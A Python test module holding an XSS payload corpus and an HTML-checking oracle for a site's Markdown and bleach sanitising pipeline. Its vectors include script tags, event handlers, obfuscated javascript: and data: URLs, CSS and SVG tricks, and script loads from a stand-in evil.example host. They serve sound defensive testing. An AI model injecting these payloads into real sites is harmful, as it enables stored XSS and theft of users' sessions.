"""XSS corpus and output oracle for the user-Markdown rendering pipeline.

Why this exists: every page body on the site is user-authored Markdown that is rendered by
Python-Markdown (extra/tables/toc/sane_lists) and then sanitised by bleach. The same text reaches
the browser by three routes (content files loaded by the loader, admin model saves, and the
markdownx live preview), and a hole in any one of them is a stored XSS. This module keeps one shared
list of hostile inputs and one strict check of the sanitised HTML, so all three routes are held to
the same standard and a regression in the Markdown or bleach configuration fails loudly.

The vectors follow the OWASP XSS Filter Evasion Cheat Sheet, plus Markdown-specific tricks: links,
reference links, autolinks and images with dangerous schemes (also entity-encoded or split by
tab/newline), title-attribute breakouts, ``attr_list`` (part of ``extra``) injecting handlers, ids
and even ``href``, abbreviations, footnotes, ``md_in_html``, fenced-code attributes, and HTML inside
code spans that must come out as text.

No vector contains a literal NUL byte: PostgreSQL text columns and Django form fields reject NUL,
so such a vector would test the database driver rather than the sanitiser. "Null-ish" spellings
(``&#0;``, ``%00``, form feed, Python-Markdown's own STX/ETX placeholder markers) are used instead.

``assert_neutralised`` parses the sanitised HTML with the stdlib ``html.parser`` (no third-party
parser to trust) and fails with a message naming every dangerous thing it found.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

# ---------------------------------------------------------------------------------------------------
# Corpus
# ---------------------------------------------------------------------------------------------------

_JS_DECIMAL_PADDED = (
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    "&#0000083&#0000039&#0000041"
)
_JS_DECIMAL = (
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;"
)
_JS_HEX_NO_SEMICOLON = (
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
    "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29"
)
# "<script>alert(1)</script>" as base64, for data: URLs.
_B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
# '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' as base64.
_B64_SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="

XSS_VECTORS: list[tuple[str, str]] = [
    # --- <script> in many spellings -------------------------------------------------------------
    ("script_basic", "<script>alert(1)</script>"),
    ("script_uppercase_external_src", "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>"),
    ("script_mixed_case", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
    ("script_nested_split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script_unclosed", "Intro text\n\n<script>alert(1)"),
    ("script_no_closing_bracket", "<SCRIPT SRC=http://evil.example/xss.js?< B >"),
    ("script_slash_instead_of_space", '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>'),
    ("script_slash_src", '<SCRIPT/SRC="http://evil.example/xss.js"></SCRIPT>'),
    ("script_extraneous_open_bracket", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    ("script_protocol_relative_src", "<SCRIPT SRC=//evil.example/.j></SCRIPT>"),
    ("script_form_feed_in_tag", "<script\x0c>alert(1)</script\x0c>"),
    (
        "script_nullish_entity_and_percent",
        "<scr&#0;ipt>alert(1)</scr&#0;ipt> <scr%00ipt>alert(2)</scr%00ipt>",
    ),
    ("script_inline_in_paragraph", "Some *text* <script>alert(1)</script> and more **text**."),
    ("script_after_end_title", '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'),
    ("script_escape_js_string", "\\\";alert('XSS');//\n\n</script><script>alert('XSS');</script>"),
    ("script_entity_encoded_brackets", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("script_already_escaped_text", "&lt;script&gt;alert(1)&lt;/script&gt; and &amp;lt;b&amp;gt;"),
    (
        "polyglot_gareth_heyes",
        "javascript:/*--></title></style></textarea></script></xmp>\n"
        "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    ),
    ("markdown_placeholder_injection", "\x02wzxhzdk:0\x03 <b>x</b> \x02wzxhzdk:1\x03"),
    # --- event handlers ---------------------------------------------------------------------------
    ("img_onerror", "<img src=x onerror=alert(1)>"),
    ("img_onerror_padded_entities", f'<img src=x onerror="{_JS_DECIMAL_PADDED}">'),
    ("img_onmouseover_hash_src", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("img_onmouseover_no_src", "<IMG onmouseover=\"alert('xxs')\">"),
    ("img_malformed_quotes", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    ("svg_onload_slash", "<svg/onload=alert('XSS')>"),
    ("svg_onload_inline_in_text", "Hello <svg onload=alert(1)> world"),
    ("body_onload", "<BODY ONLOAD=alert('XSS')>"),
    ("body_onload_junk_before_equals", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    ("details_ontoggle", "<details open ontoggle=alert(1)><summary>More</summary>x</details>"),
    ("video_source_onerror", '<video><source onerror="alert(1)"></video>'),
    ("video_poster_onerror", "<video poster=javascript:alert(1) src=x onerror=alert(2)></video>"),
    ("audio_onerror", "<audio src=x onerror=alert(1)></audio>"),
    ("input_autofocus_onfocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee_onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("a_onmouseover_no_href", '<a onmouseover="alert(document.cookie)">xxs link</a>'),
    ("allowed_p_onclick", '<p onclick="alert(1)">click me</p>'),
    ("allowed_strong_sup_handlers", "<strong onmouseover=alert(1)>x</strong><sup onclick=alert(2)>1</sup>"),
    ("allowed_abbr_handler", '<abbr title="ok" onmouseover="alert(1)">HTML</abbr>'),
    ("allowed_a_with_onclick", '<a href="https://example.org" onclick="alert(1)">x</a>'),
    # --- dangerous schemes in Markdown links ------------------------------------------------------
    ("md_link_javascript", "[click](javascript:alert(1))"),
    ("md_link_javascript_mixed_case", "[click](JaVaScRiPt:alert(1))"),
    ("md_link_javascript_angle_destination", "[click](<javascript:alert(1)>)"),
    ("md_link_javascript_with_title", '[click](javascript:alert(1) "harmless title")'),
    ("md_link_vbscript", "[click](vbscript:msgbox(1))"),
    ("md_link_data_html", f"[click](data:text/html;base64,{_B64_SCRIPT})"),
    ("md_link_entity_decimal", "[click](&#106;avascript:alert(1))"),
    ("md_link_entity_hex", "[click](&#x6A;avascript:alert(1))"),
    ("md_link_entity_tab_in_scheme", "[click](jav&#x09;ascript:alert(1))"),
    ("md_link_entity_newline_in_scheme", "[click](jav&#x0A;ascript:alert(1))"),
    ("md_link_entity_colon", "[click](javascript&#58;alert(1)) [two](javascript&colon;alert(2))"),
    ("md_link_leading_control_chars", "[click](&#14;javascript:alert(1))"),
    ("md_reference_link_javascript", "See [the docs][evil].\n\n[evil]: javascript:alert(1)"),
    ("md_reference_link_entity_encoded", 'See [the docs][e].\n\n[e]: &#x6A;avascript:alert(1) "Title"'),
    ("md_reference_link_data", f"See [here][d].\n\n[d]: <data:text/html;base64,{_B64_SCRIPT}>"),
    ("md_autolink_javascript", "<javascript:alert(1)>"),
    ("md_autolink_vbscript_and_data", "<vbscript:msgbox(1)> <data:text/html,<script>alert(1)</script>>"),
    ("md_automail_scheme_smuggle", "<javascript:alert(1)@example.org>"),
    ("md_image_javascript", "![pic](javascript:alert(1))"),
    ("md_image_data_svg", f"![pic](data:image/svg+xml;base64,{_B64_SVG})"),
    ("md_image_title_breakout", '![pic](https://example.org/a.png "x\\" onerror=\\"alert(1)")'),
    ("md_image_inside_js_link", "[![pic](https://example.org/a.png)](javascript:alert(1))"),
    ("md_link_title_breakout_double_quote", '[a](http://x "a\\" onmouseover=alert(1)")'),
    ("md_link_title_breakout_single_quote", "[a](http://x 'a\\' onmouseover=alert(1) x=\\'')"),
    ("md_link_protocol_relative", "[login](//evil.example/phish)"),
    ("md_link_backslash_protocol_relative", "[login](/\\evil.example/phish) [two](\\\\evil.example/phish)"),
    # --- entity-encoded and split schemes in raw HTML hrefs --------------------------------------
    ("html_a_href_javascript", '<a href="javascript:alert(1)">x</a>'),
    ("html_a_href_padded_decimal", f'<a href="{_JS_DECIMAL_PADDED}">x</a>'),
    ("html_a_href_decimal", f'<a href="{_JS_DECIMAL}">x</a>'),
    ("html_a_href_hex_no_semicolon", f"<a href={_JS_HEX_NO_SEMICOLON}>x</a>"),
    ("html_a_href_literal_tab", "<a href=\"jav\tascript:alert('XSS');\">x</a>"),
    ("html_a_href_encoded_tab", "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>"),
    (
        "html_a_href_encoded_newline_cr",
        '<a href="jav&#x0A;ascript:alert(1)">x</a> <a href="jav&#x0D;ascript:alert(2)">y</a>',
    ),
    # bleach's urlparse shim reads "javascript:<digits>" as host:port, so it keeps the href.
    ("javascript_digits_only_payload", '[x](javascript:1) <a href="JavaScript:0">y</a>'),
    ("html_a_href_named_entities", '<a href="java&NewLine;script&colon;alert(1)">x</a>'),
    ("html_a_href_leading_spaces_controls", "<a href=\" &#14;  javascript:alert('XSS');\">x</a>"),
    (
        "html_a_href_vbscript_livescript",
        "<a href='vbscript:msgbox(1)'>x</a> <a href=\"livescript:[code]\">y</a>",
    ),
    ("html_a_href_data_html", f'<a href="data:text/html;base64,{_B64_SCRIPT}">x</a>'),
    ("html_a_href_protocol_relative", '<a href="//evil.example/">x</a>'),
    (
        "attr_value_breakout_title",
        '<a href="https://example.org" title="&quot;><script>alert(1)</script>">y</a>',
    ),
    # --- OWASP image / background URL vectors ----------------------------------------------------
    ("img_src_javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("img_src_fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("img_src_decimal_entities", f"<IMG SRC={_JS_DECIMAL}>"),
    ("img_dynsrc_lowsrc", "<IMG DYNSRC=\"javascript:alert('XSS')\"><IMG LOWSRC=\"javascript:alert('XSS')\">"),
    ("img_src_vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
    ("input_type_image_src", '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'),
    ("body_background", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    (
        "table_td_background",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert('XSS')\">"
        "x</TD></TR></TABLE>",
    ),
    # --- embedding elements -----------------------------------------------------------------------
    ("iframe_javascript_src", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>"),
    ("iframe_srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe_half_open", "<iframe src=http://evil.example/scriptlet.html <"),
    ("frameset_frame", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>"),
    (
        "object_scriptlet",
        '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
    ),
    ("object_data_uri", f'<object data="data:text/html;base64,{_B64_SCRIPT}"></object>'),
    ("embed_data_svg", f'<EMBED SRC="data:image/svg+xml;base64,{_B64_SVG}" type="image/svg+xml">'),
    ("base_href", "<BASE HREF=\"javascript:alert('XSS');//\">\n\n[relative](page)"),
    ("meta_refresh_javascript", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'),
    ("meta_refresh_data", f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{_B64_SCRIPT}">'),
    ("link_stylesheet_javascript", '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'),
    ("link_rel_import", '<link rel=import href="https://evil.example/x.html">'),
    # --- CSS --------------------------------------------------------------------------------------
    ("style_tag_import_escaped", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>"),
    (
        "style_tag_list_style_image",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    ),
    ("style_attr_expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>"),
    ("style_attr_url_javascript", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>"),
    (
        "style_attr_css_escapes",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063"
        "\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053"
        "\\0027\\0029'\\0029\">x</DIV>",
    ),
    (
        "style_attr_overlay_on_allowed_tags",
        '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>'
        '<span style="behavior: url(xss.htc)">x</span>',
    ),
    # --- SVG / MathML -----------------------------------------------------------------------------
    ("svg_script", "<svg><script>alert(1)</script></svg>"),
    ("svg_xlink_href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>'),
    (
        "svg_animate_href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>click</text></a></svg>",
    ),
    ("math_href", '<math href="javascript:alert(1)">CLICKME</math>'),
    (
        "math_maction_xlink",
        '<math><maction actiontype="statusline#http://x" '
        'xlink:href="javascript:alert(2)">CLICKME</maction></math>',
    ),
    ("math_mglyph_style_mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    # --- forms and raw-text elements --------------------------------------------------------------
    ("form_action_javascript", '<form action="javascript:alert(1)"><input type=submit value=go></form>'),
    ("button_formaction", "<form><button formaction=javascript:alert(1)>X</button></form>"),
    (
        "textarea_breakout",
        "<textarea></textarea><script>alert(1)</script><textarea><img src=x onerror=alert(2)>",
    ),
    ("template_payload", "<template><img src=x onerror=alert(1)></template>"),
    ("noscript_mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("xmp_plaintext", "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(2)</script>"),
    # --- comments, CDATA, processing instructions -------------------------------------------------
    ("comment_hidden_script", "<!--<script>alert(1)</script>-->"),
    ("comment_early_close", "<!--><script>alert(1)</script>-->"),
    ("comment_bang_close", "<!-- --!><script>alert(1)</script> -->"),
    ("conditional_comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    ("cdata_section", "<![CDATA[<script>alert(1)</script>]]>"),
    ("xml_processing_instruction", '<?xml-stylesheet type="text/xsl" href="javascript:alert(1)"?>'),
    # --- HTML inside code must stay text ----------------------------------------------------------
    ("code_span_script", "Use `<script>alert(1)</script>` in a sentence."),
    ("code_span_double_backtick", "``<img src=x onerror=alert(1)> ` </code><script>alert(2)</script>``"),
    ("fenced_code_block_html", "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(2)>\n```"),
    (
        "indented_code_block_html",
        "Text:\n\n    <script>alert(1)</script>\n    <iframe src=javascript:alert(2)>",
    ),
    # --- Markdown extension specific (extra = attr_list, abbr, footnotes, md_in_html, ...) --------
    ("attr_list_paragraph_onclick", 'A paragraph\n{: onclick="alert(1)" }'),
    ("attr_list_heading_handler_and_style", '## Title {: onclick="alert(1)" style="position:fixed" }'),
    ("attr_list_link_href_override", '[safe](https://example.org){: href="javascript:alert(1)" }'),
    ("attr_list_link_handlers", '[x](https://example.org){: onmouseover="alert(1)" style="font-size:99em" }'),
    ("attr_list_image_onerror", '![pic](https://example.org/a.png){: onerror="alert(1)" }'),
    ("attr_list_fenced_code", '```{ .python onclick="alert(1)" }\nprint(1)\n```'),
    ("abbr_title_breakout", '*[HTML]: " onmouseover="alert(1)\n\nHTML is a markup language.'),
    (
        "footnote_payload",
        "Claim[^1].\n\n[^1]: <img src=x onerror=alert(1)> [src](javascript:alert(2))",
    ),
    (
        "md_in_html_div",
        '<div markdown="1">\n[x](javascript:alert(1))\n\n<img src=x onerror=alert(2)>\n</div>',
    ),
    (
        "table_cell_payloads",
        "| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(2)) |",
    ),
    ("blockquote_list_payloads", "> - <svg onload=alert(1)>\n> - [x](javascript:alert(2))"),
    # --- DOM clobbering / id collisions -----------------------------------------------------------
    ("dom_clobber_heading_id", '<h2 id="disclaimer">Fake disclaimer</h2>'),
    ("dom_clobber_a_name", '<a name="references">x</a><a id="main" href="#">y</a>'),
    ("dom_clobber_attr_list_id", "## Anything {: #content }"),
    ("toc_slug_collides_with_page_ids", "## Disclaimer\n\n## Main\n\n### Content\n\n#### References"),
    ("div_style_and_id", '<div id="content" style="display:none">hidden</div>'),
]


# ---------------------------------------------------------------------------------------------------
# Oracle
# ---------------------------------------------------------------------------------------------------

ALLOWED_ELEMENTS: frozenset[str] = frozenset(
    "p h2 h3 h4 ul ol li a strong em code pre blockquote table thead tbody tr th td hr br sup abbr "
    "div span details summary dfn figure figcaption".split()
    # Pictures: SVG drawn from shapes and text only (nothing that links, loads, animates or scripts).
    + "svg g title desc rect circle ellipse line path polyline polygon text tspan".split()
)
ALLOWED_SCHEMES: frozenset[str] = frozenset({"http", "https", "mailto", "tel"})
RESERVED_IDS: frozenset[str] = frozenset({"disclaimer", "references", "main", "content"})

# Attributes that must never survive, whatever their value.
FORBIDDEN_ATTRIBUTES: frozenset[str] = frozenset(
    {
        "style",
        "src",
        "srcset",
        "srcdoc",
        "formaction",
        "action",
        "background",
        "dynsrc",
        "lowsrc",
        "poster",
        "data",
        "codebase",
        "http-equiv",
    }
)
# Attributes holding a URL: allowed only with a safe scheme or as a same-site relative URL.
URL_ATTRIBUTES: frozenset[str] = frozenset({"href", "xlink:href", "cite", "ping", "longdesc", "usemap"})

# Browsers drop ASCII tab/newline anywhere in a URL and C0 controls/space at its ends; dropping
# every C0 control, space, DEL and C1 control anywhere is the conservative superset.
_CONTROL_AND_SPACE = re.compile(r"[\x00-\x20\x7f-\x9f]+")
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
# Markup that must not appear literally; escaped text ("&lt;script") never matches.
_RAW_DANGEROUS = re.compile(
    r"<\s*/?\s*(script|iframe|frame|object|embed|math|style|base|meta|link|form|template|noscript"
    r"|foreignobject|use|image|animate\w*|set|feimage)\b",
    re.IGNORECASE,
)


def _url_problem(attr: str, value: str) -> str | None:
    """Return why a URL attribute value is unsafe, or None. ``value`` is already entity-decoded."""
    cleaned = _CONTROL_AND_SPACE.sub("", value).lower()
    match = _SCHEME.match(cleaned)
    if match:
        if match.group(1) not in ALLOWED_SCHEMES:
            return f"{attr} with disallowed scheme {match.group(1)!r}: {value!r}"
        return None
    if cleaned[:2] in ("//", "\\\\", "/\\", "\\/"):
        return f"protocol-relative {attr}: {value!r}"
    return None


class _Inspector(HTMLParser):
    """Collects every dangerous construct found in a sanitised HTML fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def _check_tag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_ELEMENTS:
            self.problems.append(f"element <{tag}> outside the allowlist")
        for name, raw_value in attrs:
            value = raw_value or ""  # html.parser has already decoded entities in attribute values
            if name.startswith("on"):
                self.problems.append(f"event handler attribute {name!r} on <{tag}>")
            elif name in FORBIDDEN_ATTRIBUTES:
                self.problems.append(f"forbidden attribute {name!r} on <{tag}>: {value!r}")
            elif name in URL_ATTRIBUTES:
                problem = _url_problem(name, value)
                if problem:
                    self.problems.append(f"{problem} on <{tag}>")
            elif name in ("id", "name") and value.strip().lower() in RESERVED_IDS:
                self.problems.append(f"reserved {name}={value!r} on <{tag}> (DOM clobbering)")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check_tag(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check_tag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag not in ALLOWED_ELEMENTS:
            self.problems.append(f"end tag </{tag}> outside the allowlist")

    def handle_comment(self, data: str) -> None:
        if "<" in data or "[if" in data.lower():
            self.problems.append(f"comment carrying markup or a conditional: {data[:60]!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration <!{decl[:60]}>")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"CDATA/marked section <![{data[:60]}]>")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction <?{data[:60]}>")


def assert_neutralised(html: str) -> None:
    """Raise AssertionError naming everything dangerous left in sanitised ``html``.

    Checks: elements outside the allowlist, ``on*`` handlers, ``style``/``src``/``srcdoc``/
    ``formaction``/``action`` (and similar) attributes, URL attributes whose scheme is not
    http/https/mailto/tel or that are protocol-relative, reserved ids/names used for DOM clobbering,
    comments/CDATA/processing instructions carrying markup, and any literal ``<script`` (or other
    dangerous tag) in the raw string. Escaped text such as ``&lt;script&gt;`` is fine.
    """
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    problems = list(inspector.problems)
    for match in _RAW_DANGEROUS.finditer(html):
        problems.append(f"literal {match.group(0)!r} at offset {match.start()}")
    if problems:
        unique = list(dict.fromkeys(problems))
        snippet = html if len(html) <= 300 else html[:300] + "..."
        raise AssertionError("not neutralised: " + "; ".join(unique) + f"\n--- html ---\n{snippet}")


if __name__ == "__main__":
    import sys

    names = [name for name, _ in XSS_VECTORS]
    duplicates = sorted({n for n in names if names.count(n) > 1})
    assert not duplicates, f"duplicate vector names: {duplicates}"
    assert all(re.fullmatch(r"[a-z][a-z0-9_]*", n) for n in names), "names must be snake_case"
    assert all(isinstance(text, str) and text for _, text in XSS_VECTORS), "empty vector"
    assert not any("\x00" in text for _, text in XSS_VECTORS), "NUL bytes break the admin/DB path"
    assert len(XSS_VECTORS) >= 50, f"only {len(XSS_VECTORS)} vectors"

    bad = [
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        "<img src=x onerror=alert(1)>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="//evil.example">x</a>',
        '<h2 id="disclaimer">x</h2>',
        '<p style="color:red">x</p>',
        "<!--<script>alert(1)</script>-->",
    ]
    for sample in bad:
        try:
            assert_neutralised(sample)
        except AssertionError:
            continue
        raise SystemExit(f"assert_neutralised accepted a dangerous sample: {sample!r}")

    good = [
        '<p><a href="https://example.org" rel="noopener noreferrer">x</a> &lt;script&gt;</p>',
        '<p><a href="#fn:1">1</a> <a href="/relative/page">r</a> <a href="mailto:a@example.org">m</a></p>',
        '<pre><code>&lt;img src=x onerror=alert(1)&gt;</code></pre><abbr title="&quot; onmouseover">A</abbr>',
    ]
    for sample in good:
        assert_neutralised(sample)

    sys.stdout.write(f"ok: {len(XSS_VECTORS)} vectors, oracle self-check passed\n")
